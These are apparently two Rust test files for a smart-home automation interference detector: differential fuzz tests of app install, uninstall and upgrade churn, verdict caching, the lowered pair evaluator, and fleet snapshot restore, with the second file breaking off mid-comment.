        let mut engine = DetectionEngine::new(Detector::store_wide());
        // The mirror: what a from-scratch rebuild would install.
        let mut live: Vec<(String, Vec<Rule>)> = Vec::new();

        for _ in 0..24 {
            match g.range(0, 100) {
                // Install an app not currently live (rules re-identified so
                // repeat installs across seeds cannot collide).
                0..=49 => {
                    let (name, rules) = &corpus[g.range(0, corpus.len())];
                    if live.iter().any(|(n, _)| n == name) {
                        continue;
                    }
                    engine.install_rules(rules);
                    live.push((name.clone(), rules.clone()));
                    installs += 1;
                }
                // Uninstall a random live app.
                50..=74 => {
                    if live.is_empty() {
                        continue;
                    }
                    let victim = g.range(0, live.len());
                    let (name, _) = live.remove(victim);
                    let removed = engine.remove_app(&name);
                    assert!(!removed.is_empty(), "{name} had rules installed");
                    uninstalls += 1;
                }
                // Upgrade a random live app to another corpus app's
                // automation (re-identified), exercising remove + add.
                _ => {
                    if live.is_empty() {
                        continue;
                    }
                    let slot = g.range(0, live.len());
                    let app = live[slot].0.clone();
                    let (_, donor) = &corpus[g.range(0, corpus.len())];
                    let v2 = reidentify(donor, &app);
                    engine.remove_app(&app);
                    engine.install_rules(&v2);
                    live[slot].1 = v2;
                    upgrades += 1;
                }
            }

            // Differential: a probe app must see the identical threat set
            // from the churned engine and a fresh rebuild of `live`.
            let mut fresh = DetectionEngine::new(Detector::store_wide());
            for (_, rules) in &live {
                fresh.install_rules(rules);
            }
            assert_eq!(engine.len(), fresh.len(), "seed {seed}: live rule counts");
            let churned_ids: Vec<String> =
                engine.installed_rules().map(|r| r.id.to_string()).collect();
            let fresh_ids: Vec<String> =
                fresh.installed_rules().map(|r| r.id.to_string()).collect();
            let (mut a, mut b) = (churned_ids.clone(), fresh_ids.clone());
            a.sort();
            b.sort();
            assert_eq!(a, b, "seed {seed}: installed populations diverge");

            let (_, probe) = &corpus[g.range(0, corpus.len())];
            let (churned_threats, _) = engine.check(probe);
            let (fresh_threats, _) = fresh.check(probe);
            assert_eq!(
                sorted_keys(&churned_threats),
                sorted_keys(&fresh_threats),
                "seed {seed}: probe threat sets diverge after lifecycle churn"
            );
        }
    }
    // The property must not hold vacuously.
    assert!(installs >= 30, "only {installs} installs exercised");
    assert!(uninstalls >= 15, "only {uninstalls} uninstalls exercised");
    assert!(upgrades >= 10, "only {upgrades} upgrades exercised");
}

/// Synthetic palette for session-level lifecycle fuzzing: every app
/// subscribes to one sensor and commands one actuator, so pairs race,
/// covertly trigger, or stay unrelated depending on the draw.
const SENSORS: [(&str, &str, &str); 3] = [
    ("capability.motionSensor", "motion", "active"),
    ("capability.contactSensor", "contact", "open"),
    ("capability.waterSensor", "water", "wet"),
];

const ACTUATORS: [(&str, &str, [&str; 2]); 3] = [
    ("capability.switch", "lamp", ["on", "off"]),
    ("capability.alarm", "siren", ["siren", "off"]),
    ("capability.lock", "door", ["lock", "unlock"]),
];

fn palette_source(name: &str, sensor: usize, actuator: usize, command: usize) -> String {
    let (s_cap, s_attr, s_val) = SENSORS[sensor];
    let (a_cap, a_title, commands) = ACTUATORS[actuator];
    let cmd = commands[command];
    format!(
        r#"
definition(name: "{name}")
input "t", "{s_cap}"
input "a", "{a_cap}", title: "{a_title}"
def installed() {{ subscribe(t, "{s_attr}.{s_val}", h) }}
def h(evt) {{ a.{cmd}() }}
"#
    )
}

#[test]
fn cached_detection_matches_uncached_over_seeded_churn() {
    // The verdict-cache differential: two sessions over ONE shared store —
    // one consulting the fleet verdict cache (the default), one with
    // sharing disabled (the uncached ground truth) — replay identical
    // seeded lifecycle scripts. Every report must carry bit-identical
    // threats (witnesses, notes, everything) and identical stats modulo
    // the hit/miss markers; after the churn the Allowed lists and compiled
    // mediation points must agree. Upgrades and uninstalls are in the
    // script, so a stale verdict surviving an app replacement would
    // surface as a divergent post-upgrade report.
    let mut hits_total = 0u64;
    let mut upgrades = 0usize;
    let mut uninstalls = 0usize;
    let mut dirty_reports = 0usize;
    for seed in 0..12 {
        let mut g = Gen::new(0xcafe ^ seed);
        let store = RuleStore::shared();
        // Two cached sessions replay the identical script — the second is
        // the "neighbor home" whose checks should be answered from the
        // first one's solving — plus the uncached ground truth.
        let mut cached = Home::builder(store.clone())
            .handling_policy(PolicyTable::block_all())
            .build();
        let mut twin = Home::builder(store.clone())
            .handling_policy(PolicyTable::block_all())
            .build();
        let mut plain = Home::builder(store.clone())
            .handling_policy(PolicyTable::block_all())
            .verdict_sharing(false)
            .build();
        let mut live: Vec<String> = Vec::new();

        for step in 0..14 {
            match g.range(0, 100) {
                0..=54 => {
                    let name = format!("Cache{seed}x{step}");
                    let source = palette_source(&name, g.range(0, 3), g.range(0, 3), g.range(0, 2));
                    let a = cached.install_app_forced(&source, &name, None).unwrap();
                    let t = twin.install_app_forced(&source, &name, None).unwrap();
                    let b = plain.install_app_forced(&source, &name, None).unwrap();
                    for (label, report) in [("cached", &a), ("twin", &t)] {
                        assert_eq!(
                            report.threats, b.threats,
                            "seed {seed} step {step}: {label} install threats diverge"
                        );
                        assert_eq!(
                            report.stats.logical(),
                            b.stats.logical(),
                            "seed {seed} step {step}: {label} logical stats diverge"
                        );
                    }
                    assert_eq!(b.stats.cache_hits + b.stats.cache_misses, 0);
                    // The twin's pairs repeat the first session's work.
                    assert_eq!(t.stats.cache_hits, t.stats.pairs);
                    hits_total += t.stats.cache_hits;
                    if !a.is_clean() {
                        dirty_reports += 1;
                    }
                    live.push(name);
                }
                55..=74 => {
                    if live.is_empty() {
                        continue;
                    }
                    let name = live.remove(g.range(0, live.len()));
                    let a = cached.uninstall_app(&name).unwrap();
                    let t = twin.uninstall_app(&name).unwrap();
                    let b = plain.uninstall_app(&name).unwrap();
                    assert_eq!(a.removed_rules, b.removed_rules);
                    assert_eq!(t.removed_rules, b.removed_rules);
                    assert_eq!(a.retired_threats, b.retired_threats);
                    uninstalls += 1;
                }
                _ => {
                    if live.is_empty() {
                        continue;
                    }
                    let name = live[g.range(0, live.len())].clone();
                    let v2 = palette_source(&name, g.range(0, 3), g.range(0, 3), g.range(0, 2));
                    let a = cached.upgrade_app_forced(&v2, &name, None).unwrap();
                    let t = twin.upgrade_app_forced(&v2, &name, None).unwrap();
                    let b = plain.upgrade_app_forced(&v2, &name, None).unwrap();
                    for (label, report) in [("cached", &a), ("twin", &t)] {
                        assert_eq!(
                            report.threats, b.threats,
                            "seed {seed} step {step}: {label} post-upgrade threats diverge \
                             (a stale verdict survived the replacement?)"
                        );
                        assert_eq!(report.stats.logical(), b.stats.logical());
                    }
                    hits_total += t.stats.cache_hits;
                    upgrades += 1;
                }
            }

            // Between ops: a probe check must agree bit-identically too.
            let probe = format!("Probe{seed}x{step}");
            let probe_src = palette_source(&probe, g.range(0, 3), g.range(0, 3), g.range(0, 2));
            store.ingest(&probe_src, &probe).unwrap();
            let a = cached.check_install(&probe).unwrap();
            let t = twin.check_install(&probe).unwrap();
            let b = plain.check_install(&probe).unwrap();
            assert_eq!(
                a.threats, b.threats,
                "seed {seed} step {step}: probe diverges"
            );
            assert_eq!(
                t.threats, b.threats,
                "seed {seed} step {step}: twin probe diverges"
            );
            assert_eq!(a.stats.logical(), b.stats.logical());
            assert_eq!(t.stats.logical(), b.stats.logical());
            hits_total += t.stats.cache_hits;
            store.retire_app(&probe);
        }

        for (label, home) in [("cached", &cached), ("twin", &twin)] {
            assert_eq!(
                sorted_keys(home.allowed()),
                sorted_keys(plain.allowed()),
                "seed {seed}: {label} Allowed lists diverge"
            );
        }
        assert_eq!(
            cached.mediation_index().len(),
            plain.mediation_index().len(),
            "seed {seed}: mediation point counts diverge"
        );
        let points = |home: &mut Home| {
            let mut v: Vec<(String, String)> = home
                .mediation_index()
                .points()
                .iter()
                .map(|p| (p.source.to_string(), p.target.to_string()))
                .collect();
            v.sort();
            v
        };
        assert_eq!(
            points(&mut cached),
            points(&mut plain),
            "seed {seed}: mediation points diverge"
        );
    }
    // Not vacuous: the cache served real traffic, churn really replaced
    // and retired apps, and interference actually surfaced.
    assert!(hits_total >= 50, "only {hits_total} cache hits exercised");
    assert!(upgrades >= 10, "only {upgrades} upgrades exercised");
    assert!(uninstalls >= 10, "only {uninstalls} uninstalls exercised");
    assert!(dirty_reports >= 10, "only {dirty_reports} dirty installs");
}

/// Palette variant for the lowering differential: the handler body gains a
/// guard so condition-overlap questions (GC's merged solve, EC's effect
/// solve) actually reach the pair-check pipeline. Shapes 0–2 sit inside the
/// lowered fragment (unconditional, mode membership, constant threshold);
/// shape 3 compares against an **unresolved user input**, which the lowered
/// evaluator refuses by design — guaranteeing real solver fallbacks.
fn conditional_palette_source(
    name: &str,
    sensor: usize,
    actuator: usize,
    command: usize,
    cond: usize,
) -> String {
    if cond == 0 {
        return palette_source(name, sensor, actuator, command);
    }
    let (s_cap, s_attr, s_val) = SENSORS[sensor];
    let (a_cap, a_title, commands) = ACTUATORS[actuator];
    let cmd = commands[command];
    let (extra_inputs, guard) = match cond {
        1 => ("", r#"location.mode == "Home""#.to_string()),
        2 => (
            "input \"m\", \"capability.temperatureMeasurement\"\n",
            "m.currentTemperature > 50".to_string(),
        ),
        _ => (
            "input \"m\", \"capability.temperatureMeasurement\"\ninput \"thr\", \"number\", title: \"Above?\"\n",
            "m.currentTemperature > thr".to_string(),
        ),
    };
    format!(
        r#"
definition(name: "{name}")
input "t", "{s_cap}"
input "a", "{a_cap}", title: "{a_title}"
{extra_inputs}def installed() {{ subscribe(t, "{s_attr}.{s_val}", h) }}
def h(evt) {{ if ({guard}) {{ a.{cmd}() }} }}
"#
    )
}

#[test]
fn lowered_detection_matches_solver_over_seeded_churn() {
    // The lowering differential: two sessions replay identical seeded
    // lifecycle scripts — one with the lowered pair evaluator enabled
    // (the default), one forced onto the full `OverlapSolver` for every
    // pair (`.lowered_pairs(false)`). Verdict sharing is off on both so
    // every check is decided by the tier under test, not a cache. Every
    // report must carry bit-identical threats — witnesses included,
    // since the lowered evaluator promises the SAME witness the solver
    // would construct — and identical logical stats. The tier counters
    // prove the property is not vacuous: the lowered twin must both hit
    // the lowered tier AND fall back to the solver (covert-trigger
    // channel checks always consult it), while the forced twin must
    // never touch either counter.
    //
    // `HG_LOWERED_PAIRS=off` deliberately wins over the builder knob, so
    // under that override both twins are solver-forced and the
    // differential is vacuous — skip rather than fail the run whose
    // entire point is forcing the solver everywhere.
    if matches!(
        std::env::var("HG_LOWERED_PAIRS").as_deref(),
        Ok("off") | Ok("0") | Ok("false")
    ) {
        eprintln!("HG_LOWERED_PAIRS=off: lowering differential skipped (both twins solver-forced)");
        return;
    }
    let mut lowered_total = 0u64;
    let mut fallback_total = 0u64;
    let mut upgrades = 0usize;
    let mut uninstalls = 0usize;
    let mut dirty_reports = 0usize;
    for seed in 0..24 {
        let mut g = Gen::new(0xfaded ^ seed);
        let store = RuleStore::shared();
        let mut lowered = Home::builder(store.clone())
            .handling_policy(PolicyTable::block_all())
            .verdict_sharing(false)
            .build();
        let mut forced = Home::builder(store.clone())
            .handling_policy(PolicyTable::block_all())
            .verdict_sharing(false)
            .lowered_pairs(false)
            .build();
        let mut live: Vec<String> = Vec::new();

        // Compare one lowered report against its solver-forced ground
        // truth: bit-identical threats, identical logical stats, and the
        // tier counters on exactly one side.
        let mut check = |a: &hg_detector::DetectStats, b: &hg_detector::DetectStats, ctx: &str| {
            assert_eq!(a.logical(), b.logical(), "{ctx}: logical stats diverge");
            assert_eq!(
                b.lowered_hits + b.solver_fallbacks,
                0,
                "{ctx}: forced twin touched the lowered tier"
            );
            lowered_total += a.lowered_hits;
            fallback_total += a.solver_fallbacks;
        };

        for step in 0..14 {
            match g.range(0, 100) {
                0..=54 => {
                    let name = format!("Low{seed}x{step}");
                    let source = conditional_palette_source(
                        &name,
                        g.range(0, 3),
                        g.range(0, 3),
                        g.range(0, 2),
                        g.range(0, 4),
                    );
                    let a = lowered.install_app_forced(&source, &name, None).unwrap();
                    let b = forced.install_app_forced(&source, &name, None).unwrap();
                    assert_eq!(
                        a.threats, b.threats,
                        "seed {seed} step {step}: install threats diverge"
                    );
                    check(&a.stats, &b.stats, &format!("seed {seed} step {step}"));
                    if !a.is_clean() {
                        dirty_reports += 1;
                    }
                    live.push(name);
                }
                55..=74 => {
                    if live.is_empty() {
                        continue;
                    }
                    let name = live.remove(g.range(0, live.len()));
                    let a = lowered.uninstall_app(&name).unwrap();
                    let b = forced.uninstall_app(&name).unwrap();
                    assert_eq!(a.removed_rules, b.removed_rules);
                    assert_eq!(a.retired_threats, b.retired_threats);
                    uninstalls += 1;
                }
                _ => {
                    if live.is_empty() {
                        continue;
                    }
                    let name = live[g.range(0, live.len())].clone();
                    let v2 = conditional_palette_source(
                        &name,
                        g.range(0, 3),
                        g.range(0, 3),
                        g.range(0, 2),
                        g.range(0, 4),
                    );
                    let a = lowered.upgrade_app_forced(&v2, &name, None).unwrap();
                    let b = forced.upgrade_app_forced(&v2, &name, None).unwrap();
                    assert_eq!(
                        a.threats, b.threats,
                        "seed {seed} step {step}: post-upgrade threats diverge"
                    );
                    check(&a.stats, &b.stats, &format!("seed {seed} step {step}"));
                    upgrades += 1;
                }
            }

            // Between ops: a probe check must agree bit-identically too.
            let probe = format!("LowProbe{seed}x{step}");
            let probe_src = conditional_palette_source(
                &probe,
                g.range(0, 3),
                g.range(0, 3),
                g.range(0, 2),
                g.range(0, 4),
            );
            store.ingest(&probe_src, &probe).unwrap();
            let a = lowered.check_install(&probe).unwrap();
            let b = forced.check_install(&probe).unwrap();
            assert_eq!(
                a.threats, b.threats,
                "seed {seed} step {step}: probe threats diverge"
            );
            check(&a.stats, &b.stats, &format!("seed {seed} probe {step}"));
            store.retire_app(&probe);
        }

        assert_eq!(
            sorted_keys(lowered.allowed()),
            sorted_keys(forced.allowed()),
            "seed {seed}: Allowed lists diverge"
        );
    }
    // Not vacuous: the lowered tier answered real pair checks, the
    // solver really was consulted as the fallback, churn really replaced
    // and retired apps, and interference actually surfaced.
    assert!(lowered_total >= 30, "only {lowered_total} lowered hits");
    assert!(
        fallback_total >= 20,
        "only {fallback_total} solver fallbacks"
    );
    assert!(upgrades >= 10, "only {upgrades} upgrades exercised");
    assert!(uninstalls >= 10, "only {uninstalls} uninstalls exercised");
    assert!(dirty_reports >= 10, "only {dirty_reports} dirty installs");
}

#[test]
fn home_lifecycle_matches_fresh_session_replay() {
    let mut uninstalls = 0usize;
    let mut upgrades = 0usize;
    let mut nonempty_mediation = 0usize;
    for seed in 0..16 {
        let mut g = Gen::new(0xbeef ^ seed);
        let mut home = Home::builder(RuleStore::shared())
            .handling_policy(PolicyTable::block_all())
            .build();
        // The mirror: (name, source) of every app surviving the churn, in
        // the order a fresh session would install them.
        let mut live: Vec<(String, String)> = Vec::new();

        for step in 0..12 {
            match g.range(0, 100) {
                0..=54 => {
                    let name = format!("App{seed}x{step}");
                    let source = palette_source(&name, g.range(0, 3), g.range(0, 3), g.range(0, 2));
                    let report = home.install_app_forced(&source, &name, None).unwrap();
                    assert!(report.installed);
                    live.push((name, source));
                }
                55..=79 => {
                    if live.is_empty() {
                        continue;
                    }
                    let (name, _) = live.remove(g.range(0, live.len()));
                    home.uninstall_app(&name).unwrap();
                    uninstalls += 1;
                }
                _ => {
                    if live.is_empty() {
                        continue;
                    }
                    let slot = g.range(0, live.len());
                    let name = live[slot].0.clone();
                    let v2 = palette_source(&name, g.range(0, 3), g.range(0, 3), g.range(0, 2));
                    let report = home.upgrade_app_forced(&v2, &name, None).unwrap();
                    assert!(report.installed && report.is_upgrade());
                    live[slot].1 = v2;
                    upgrades += 1;
                }
            }
        }

        // A fresh session that only ever saw the survivors.
        let mut fresh = Home::builder(RuleStore::shared())
            .handling_policy(PolicyTable::block_all())
            .build();
        for (name, source) in &live {
            fresh.install_app_forced(source, name, None).unwrap();
        }

        // Compared as sets: an upgrade legitimately moves an app to the
        // end of the churned home's install order.
        let mut churned_rules: Vec<String> = home
            .installed_rules()
            .iter()
            .map(|r| r.to_string())
            .collect();
        let mut fresh_rules: Vec<String> = fresh
            .installed_rules()
            .iter()
            .map(|r| r.to_string())
            .collect();
        churned_rules.sort();
        fresh_rules.sort();
        assert_eq!(
            churned_rules, fresh_rules,
            "seed {seed}: surviving rules diverge"
        );

        assert_eq!(
            sorted_keys(home.allowed()),
            sorted_keys(fresh.allowed()),
            "seed {seed}: Allowed lists diverge after churn"
        );

        // The compiled mediation points agree, and no point references an
        // app outside the surviving population — an uninstalled app's
        // rules produce zero mediation points.
        let fresh_points = fresh.mediation_index().len();
        let index = home.mediation_index();
        assert_eq!(
            index.len(),
            fresh_points,
            "seed {seed}: mediation point counts diverge"
        );
        for point in index.points() {
            for rule in [&point.source, &point.target] {
                assert!(
                    live.iter().any(|(name, _)| *name == rule.app),
                    "seed {seed}: mediation point references retired app {rule}"
                );
            }
        }
        if !index.is_empty() {
            nonempty_mediation += 1;
        }
    }
    // Not vacuous: the sequences actually retired and replaced apps, and
    // some surviving populations still interfere.
    assert!(uninstalls >= 10, "only {uninstalls} uninstalls exercised");
    assert!(upgrades >= 10, "only {upgrades} upgrades exercised");
    assert!(
        nonempty_mediation >= 4,
        "only {nonempty_mediation} seeds ended with live mediation points"
    );
}
