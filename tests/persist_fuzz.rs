//! Differential snapshot/restore harness (mirroring `lifecycle_fuzz.rs`):
//! seeded churn scripts drive a live fleet through installs, confirms,
//! uninstalls, upgrades and priority re-rankings; the fleet is then
//! snapshotted, serialized to text, parsed back and restored — and the
//! restored fleet must be **behaviorally identical** to the live one:
//!
//! * identical detection reports (threats, chains, effort stats) for a
//!   fresh probe app in every home;
//! * identical compiled mediation points and handling tables;
//! * identical runtime behavior: paired simulations driven by the same
//!   event schedule produce bit-identical traces and the same mediation
//!   decisions;
//! * and a restored-then-upgraded home stays clean — no stale store
//!   fingerprints, no dangling `Priority` ranks.

use hg_persist::FleetSnapshot;
use hg_rules::rule::{ActionSubject, Rule, RuleId, Trigger};
use hg_rules::value::Value;
use hg_rules::varid::DeviceRef;
use hg_service::{Fleet, HomeId, PolicyTable, RuleStore};
use homeguard_core::HandlingPolicy;
use std::collections::BTreeSet;

/// SplitMix64, as in `tests/properties.rs`.
struct Gen {
    state: u64,
}

impl Gen {
    fn new(seed: u64) -> Gen {
        Gen {
            state: seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) ^ 0xd1b5_4a32_d192_ed03,
        }
    }

    fn next(&mut self) -> u64 {
        self.state = self.state.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.state;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    fn range(&mut self, lo: usize, hi: usize) -> usize {
        lo + (self.next() % (hi - lo) as u64) as usize
    }
}

/// Synthetic palette, as in `lifecycle_fuzz.rs`: every app subscribes to
/// one sensor and commands one actuator.
const SENSORS: [(&str, &str, &str); 3] = [
    ("capability.motionSensor", "motion", "active"),
    ("capability.contactSensor", "contact", "open"),
    ("capability.waterSensor", "water", "wet"),
];

const ACTUATORS: [(&str, &str, [&str; 2]); 3] = [
    ("capability.switch", "lamp", ["on", "off"]),
    ("capability.alarm", "siren", ["siren", "off"]),
    ("capability.lock", "door", ["lock", "unlock"]),
];

fn palette_source(name: &str, sensor: usize, actuator: usize, command: usize) -> String {
    let (s_cap, s_attr, s_val) = SENSORS[sensor];
    let (a_cap, a_title, commands) = ACTUATORS[actuator];
    let cmd = commands[command];
    format!(
        r#"
definition(name: "{name}")
input "t", "{s_cap}"
input "a", "{a_cap}", title: "{a_title}"
def installed() {{ subscribe(t, "{s_attr}.{s_val}", h) }}
def h(evt) {{ a.{cmd}() }}
"#
    )
}

/// Canonical, comparable threat key (as in `tests/differential.rs`).
fn threat_keys(threats: &[hg_detector::Threat]) -> Vec<(hg_detector::ThreatKind, String, String)> {
    let mut keys: Vec<_> = threats
        .iter()
        .map(|t| {
            let s = t.source.to_string();
            let d = t.target.to_string();
            if t.kind.is_directed() || s <= d {
                (t.kind, s, d)
            } else {
                (t.kind, d, s)
            }
        })
        .collect();
    keys.sort();
    keys
}

/// Comparable mediation-point keys of a home's compiled index.
fn mediation_keys(fleet: &Fleet, id: HomeId) -> Vec<(String, String, String, String)> {
    let mut keys = fleet
        .with_home_mut(id, |home| {
            home.mediation_index()
                .points()
                .iter()
                .map(|p| {
                    (
                        p.kind.acronym().to_string(),
                        p.source.to_string(),
                        p.target.to_string(),
                        p.policy.tag().to_string(),
                    )
                })
                .collect::<Vec<_>>()
        })
        .unwrap();
    keys.sort();
    keys
}

/// The static capability name behind a canonical `type:<cap>/<kind>` id.
fn static_capability(device_id: &str) -> &'static str {
    let cap = device_id
        .strip_prefix("type:")
        .and_then(|rest| rest.split('/').next())
        .unwrap_or_else(|| panic!("unexpected device id {device_id}"));
    match cap {
        "motionSensor" => "motionSensor",
        "contactSensor" => "contactSensor",
        "waterSensor" => "waterSensor",
        "switch" => "switch",
        "alarm" => "alarm",
        "lock" => "lock",
        other => panic!("unexpected capability {other}"),
    }
}

/// The bound device ids a unified rule set touches.
fn bound_devices(rules: &[Rule]) -> BTreeSet<String> {
    let mut ids = BTreeSet::new();
    for rule in rules {
        if let Trigger::DeviceEvent {
            subject: DeviceRef::Bound { device_id },
            ..
        } = &rule.trigger
        {
            ids.insert(device_id.clone());
        }
        for action in &rule.actions {
            if let ActionSubject::Device(DeviceRef::Bound { device_id }) = &action.subject {
                ids.insert(device_id.clone());
            }
        }
    }
    ids
}

/// Builds a simulated home for a session's unified rules, installs the
/// session's enforcer, drives the schedule, and returns the sim.
fn simulate(
    seed: u64,
    rules: &[Rule],
    enforcer: homeguard_core::SharedEnforcer,
    schedule: &[(String, &'static str, &'static str)],
) -> hg_sim::Home {
    use hg_capability::device_kind::DeviceKind;
    let mut sim = hg_sim::Home::new(seed);
    for id in bound_devices(rules) {
        let cap = static_capability(&id);
        sim.add_device(hg_sim::Device::new(
            id.clone(),
            id,
            cap,
            DeviceKind::Unknown,
        ));
    }
    for rule in rules {
        sim.install_rule(rule.clone());
    }
    sim.set_mediator(enforcer.mediator());
    for (device, attr, value) in schedule {
        sim.stimulate(device, attr, Value::sym(*value));
    }
    sim
}

/// The unified (ByType — no bindings are recorded in this harness) rules
/// of a home, in install order.
fn unified_rules(fleet: &Fleet, id: HomeId) -> Vec<Rule> {
    fleet
        .with_home(id, |home| {
            home.installed_rules()
                .into_iter()
                .map(|r| hg_detector::Unification::ByType.unify_rule(r))
                .collect()
        })
        .unwrap()
}

#[test]
fn restored_fleet_is_behaviorally_identical_to_the_live_one() {
    let mut uninstalls = 0usize;
    let mut upgrades = 0usize;
    let mut rankings = 0usize;
    let mut dropped_rank_events = 0usize;
    let mut nonempty_mediation = 0usize;
    let mut mediated_runs = 0usize;

    for seed in 0..12u64 {
        let mut g = Gen::new(0xcafe ^ seed);
        let fleet = Fleet::builder(RuleStore::shared())
            .shards(3)
            .home_defaults(|b| b.handling_policy(PolicyTable::block_all()))
            .build();
        let homes: Vec<HomeId> = (0..3).map(|_| fleet.create_home().unwrap()).collect();
        // Mirror of each home's surviving apps: (name, source).
        let mut live: Vec<Vec<(String, String)>> = vec![Vec::new(); homes.len()];

        for step in 0..14 {
            let h = g.range(0, homes.len());
            let id = homes[h];
            match g.range(0, 100) {
                0..=54 => {
                    let name = format!("App{seed}h{h}x{step}");
                    let source = palette_source(&name, g.range(0, 3), g.range(0, 3), g.range(0, 2));
                    let report = fleet.install_app_forced(id, &source, &name, None).unwrap();
                    assert!(report.installed);
                    live[h].push((name, source));
                }
                55..=69 => {
                    if live[h].is_empty() {
                        continue;
                    }
                    let victim = g.range(0, live[h].len());
                    let (name, _) = live[h].remove(victim);
                    fleet.uninstall_app(id, &name).unwrap();
                    uninstalls += 1;
                }
                70..=84 => {
                    if live[h].is_empty() {
                        continue;
                    }
                    let slot = g.range(0, live[h].len());
                    let name = live[h][slot].0.clone();
                    let v2 = palette_source(&name, g.range(0, 3), g.range(0, 3), g.range(0, 2));
                    let report = fleet
                        .with_home_mut(id, |home| home.upgrade_app_forced(&v2, &name, None))
                        .unwrap()
                        .unwrap();
                    assert!(report.installed && report.is_upgrade());
                    if !report.dropped_ranks.is_empty() {
                        dropped_rank_events += 1;
                    }
                    live[h][slot].1 = v2;
                    upgrades += 1;
                }
                _ => {
                    // The user ranks two of the home's apps for Actuator
                    // Race arbitration.
                    if live[h].len() < 2 {
                        continue;
                    }
                    let first = g.range(0, live[h].len());
                    let mut second = g.range(0, live[h].len());
                    if second == first {
                        second = (second + 1) % live[h].len();
                    }
                    let table = PolicyTable::block_all().prioritize([
                        RuleId::new(live[h][first].0.clone(), 0),
                        RuleId::new(live[h][second].0.clone(), 0),
                    ]);
                    fleet
                        .with_home_mut(id, |home| home.set_handling_policy(table))
                        .unwrap();
                    rankings += 1;
                }
            }
        }

        // Restart: only the snapshot text crosses the process boundary.
        let text = fleet.snapshot().unwrap().to_text();
        let restored = Fleet::restore(FleetSnapshot::from_text(&text).unwrap()).unwrap();
        assert_eq!(restored.home_ids(), fleet.home_ids());
        assert_eq!(restored.store().len(), fleet.store().len());

        // A fresh probe app, published to both stores.
        let probe_name = format!("Probe{seed}");
        let probe = palette_source(&probe_name, g.range(0, 3), g.range(0, 3), g.range(0, 2));
        fleet.store().ingest(&probe, &probe_name).unwrap();
        restored.store().ingest(&probe, &probe_name).unwrap();

        for (h, &id) in homes.iter().enumerate() {
            // Ground truth agrees...
            assert_eq!(
                restored.with_home(id, |x| x.installed_apps()).unwrap(),
                fleet.with_home(id, |x| x.installed_apps()).unwrap(),
                "seed {seed} home {h}: installed apps diverge"
            );
            assert_eq!(
                restored
                    .with_home(id, |x| x
                        .installed_rules()
                        .iter()
                        .map(|r| r.to_string())
                        .collect::<Vec<_>>())
                    .unwrap(),
                fleet
                    .with_home(id, |x| x
                        .installed_rules()
                        .iter()
                        .map(|r| r.to_string())
                        .collect::<Vec<_>>())
                    .unwrap(),
                "seed {seed} home {h}: installed rules diverge"
            );
            assert_eq!(
                restored
                    .with_home(id, |x| x.handling_policy().clone())
                    .unwrap(),
                fleet
                    .with_home(id, |x| x.handling_policy().clone())
                    .unwrap(),
                "seed {seed} home {h}: handling tables diverge"
            );

            // ...detection reports agree, effort included...
            let live_report = fleet.check_install(id, &probe_name).unwrap();
            let back_report = restored.check_install(id, &probe_name).unwrap();
            assert_eq!(
                threat_keys(&live_report.threats),
                threat_keys(&back_report.threats),
                "seed {seed} home {h}: probe threat sets diverge"
            );
            assert_eq!(live_report.chains.len(), back_report.chains.len());
            assert_eq!(
                live_report.stats, back_report.stats,
                "seed {seed} home {h}: detection effort diverges"
            );

            // ...the compiled mediation points agree...
            let live_points = mediation_keys(&fleet, id);
            assert_eq!(
                live_points,
                mediation_keys(&restored, id),
                "seed {seed} home {h}: mediation points diverge"
            );
            if !live_points.is_empty() {
                nonempty_mediation += 1;
            }

            // ...and the runtime *behaves* the same: paired simulations on
            // the same schedule replay bit-identically, mediation included.
            let rules = unified_rules(&fleet, id);
            assert_eq!(rules, unified_rules(&restored, id));
            let mut schedule = Vec::new();
            for (_, s_attr, s_val) in SENSORS {
                for device in bound_devices(&rules) {
                    if static_capability(&device).ends_with("Sensor") {
                        schedule.push((device, s_attr, s_val));
                    }
                }
            }
            let live_enf = fleet.with_home_mut(id, |x| x.enforcer()).unwrap();
            let back_enf = restored.with_home_mut(id, |x| x.enforcer()).unwrap();
            let live_sim = simulate(seed, &rules, live_enf.clone(), &schedule);
            let back_sim = simulate(seed, &rules, back_enf.clone(), &schedule);
            assert_eq!(
                live_sim.trace, back_sim.trace,
                "seed {seed} home {h}: replayed traces diverge"
            );
            assert_eq!(
                live_enf.stats().mediated,
                back_enf.stats().mediated,
                "seed {seed} home {h}: mediation decisions diverge"
            );
            assert_eq!(live_enf.journal().len(), back_enf.journal().len());
            if live_enf.stats().mediated > 0 {
                mediated_runs += 1;
            }
        }

        // Restored-then-upgraded: churn every restored home once more and
        // verify no staleness survived the restart.
        for (h, &id) in homes.iter().enumerate() {
            let Some((name, _)) = live[h].first().cloned() else {
                continue;
            };
            if h == 0 {
                // The user ranks the app right before its upgrade — in
                // both worlds — so the rank-remap path runs on a restored
                // handling table too.
                let table = PolicyTable::block_all().prioritize([RuleId::new(name.clone(), 0)]);
                fleet
                    .with_home_mut(id, |home| home.set_handling_policy(table.clone()))
                    .unwrap();
                restored
                    .with_home_mut(id, |home| home.set_handling_policy(table))
                    .unwrap();
            }
            let v2 = palette_source(&name, g.range(0, 3), g.range(0, 3), g.range(0, 2));
            let live_up = fleet
                .with_home_mut(id, |home| home.upgrade_app_forced(&v2, &name, None))
                .unwrap()
                .unwrap();
            let back_up = restored
                .with_home_mut(id, |home| home.upgrade_app_forced(&v2, &name, None))
                .unwrap()
                .unwrap();
            assert_eq!(
                threat_keys(&live_up.threats),
                threat_keys(&back_up.threats),
                "seed {seed} home {h}: post-restore upgrade reports diverge"
            );
            assert_eq!(live_up.dropped_ranks, back_up.dropped_ranks);
            if !back_up.dropped_ranks.is_empty() {
                dropped_rank_events += 1;
            }

            // No dangling Priority ranks: every surviving rank references
            // an installed rule.
            restored
                .with_home(id, |home| {
                    let installed: BTreeSet<String> = home
                        .installed_rules()
                        .iter()
                        .map(|r| r.id.to_string())
                        .collect();
                    for (_, policy) in home
                        .handling_policy()
                        .entries()
                        .map(|(k, p)| (Some(k), p))
                        .chain(std::iter::once((None, home.handling_policy().fallback())))
                    {
                        if let HandlingPolicy::Priority(order) = policy {
                            for rank in order {
                                assert!(
                                    installed.contains(&rank.to_string()),
                                    "seed {seed} home {h}: dangling rank {rank}"
                                );
                            }
                        }
                    }
                })
                .unwrap();

            // No stale fingerprints: the store's dedup cache and by-name
